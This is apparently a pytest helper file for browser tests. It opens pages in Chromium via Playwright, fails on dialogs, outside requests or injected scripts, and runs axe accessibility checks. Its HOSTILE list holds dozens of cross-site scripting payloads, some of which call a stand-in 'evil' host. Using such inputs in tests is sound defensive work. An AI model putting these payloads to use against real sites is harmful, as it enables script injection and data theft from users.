"""Pages in a real browser: errors of a page fail the test; checks with axe; and texts of hostile users."""

import shutil
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from tests.deadlines import scaled

AXE = Path(__file__).parents[1] / "scripts" / "node" / "node_modules" / "axe-core" / "axe.min.js"
HOSTILE = [
    f"{opening}{code}{closing}"
    for code in ("window.pwned=1", "fetch('//evil')", "alert(1)", "document.title='pwned'", "location='//evil'")
    for opening, closing in (
        ("<script>", "</script>"),
        ('<img src=x onerror="', '">'),
        ("<svg onload='", "'>"),
        ('"><iframe srcdoc="<script>', '</script>">'),
        ("javascript:", ""),
        ("</span><script>", "</script><span>"),
        ("<a href='javascript:", "'>click</a>"),
        ("```html\n<script>", "</script>\n```"),
        ("<body onpageshow=", ">"),
        ("<details open ontoggle=", ">"),
        ("<math><mtext><style><img title='</style><img src onerror=", "'>"),
        ("{{constructor.constructor('", "')()}}"),
        ("${", "}"),
        ("&lt;script&gt;", "&lt;/script&gt;"),
        ("<object data='data:text/html,<script>", "</script>'>"),
        ("<base href='//evil/'><script src='", "'></script>"),
        ("<meta http-equiv=refresh content='0;url=javascript:", "'>"),
        ("<form action='javascript:", "'><button autofocus>"),
        ("\u2028</title><script>", "</script>"),
        ("<input autofocus onfocus=", ">"),
        ("<video><source onerror=", ">"),
        ("<template><script>", "</script></template>"),
        ("<!--><script>", "</script>-->"),
        ("<x onclick=", " style=position:fixed;inset:0>"),
        ("<style>@import'//evil';", "</style>"),
        ("<link rel=stylesheet href='//evil?", "'>"),
        ("<embed src='javascript:", "'>"),
        ("<marquee onstart=", ">"),
        ("<button popovertarget=x>", "</button><p popover id=x onbeforetoggle=alert(1)>"),
        ("<select autofocus onfocus=", ">"),
        ("\x00<script>", "</script>"),
        ("<ScRiPt>", "</sCrIpT>"),
        ("<svg><animate onbegin=", " attributeName=x>"),
        ("<noscript><p title='</noscript><img src=x onerror=", "'>"),
        ("<textarea></textarea><script>", "</script>"),
        ("<isindex type=image src=1 onerror=", ">"),
        ("%3Cscript%3E", "%3C/script%3E"),
        ("<iframe src='data:text/html,<script>", "</script>'>"),
        ("<div contenteditable autofocus onfocusin=", ">"),
        ("<dialog open onclose=", "><form method=dialog>"),
    )
]


@contextmanager
def chromium() -> Iterator[Any]:
    """Start the distribution's Chromium. Skips the test if it is missing."""
    found = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if found is None:
        pytest.skip("no Chromium is installed")
    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
    with sync_api.sync_playwright() as driver:
        running = driver.chromium.launch(executable_path=found, args=["--disable-gpu"])
        yield running
        running.close()


@contextmanager
def opened(
    browser: Any, address: str, refused: str = "status of 400", prepare: Callable[[Any], None] = lambda _: None
) -> Iterator[Any]:
    """A page, open at `address` after `prepare`. What fails the test: errors on its console but those with `refused`,
    dialogs, requests to others, and scripts that are not its own."""
    context = browser.new_context(viewport={"width": 1100, "height": 900})
    context.set_default_timeout(scaled(60_000))
    page = context.new_page()
    faults: list[str] = []
    own = "/".join(address.split("/")[:3])

    def hear(said: Any) -> None:
        if said.type == "error" and refused not in said.text:
            faults.append(said.text)

    def dismiss(dialog: Any) -> None:
        faults.append("a dialog")
        dialog.dismiss()

    def note(request: Any) -> None:
        if not request.url.startswith((own, "data:")):
            faults.append(f"it asked {request.url}")

    page.on("pageerror", lambda error: faults.append(str(error)))
    page.on("console", hear)
    page.on("dialog", dismiss)
    page.on("request", note)
    prepare(page)
    page.goto(address)
    yield page
    assert page.evaluate("[window.pwned ?? null, document.scripts.length]") == [None, 1]
    assert page.url.startswith(f"{own}/")
    context.close()
    assert faults == []


def check_with_axe(page: Any) -> None:
    """Fail if a part of the page cannot be used with a screen reader or a keyboard. Skips the test without axe."""
    if not AXE.exists():
        pytest.skip("axe-core is not installed: make node-client")
    page.evaluate(AXE.read_text())
    found = page.evaluate("axe.run(document, {resultTypes: ['violations']})")
    assert [(each["id"], [node["html"] for node in each["nodes"]]) for each in found["violations"]] == []
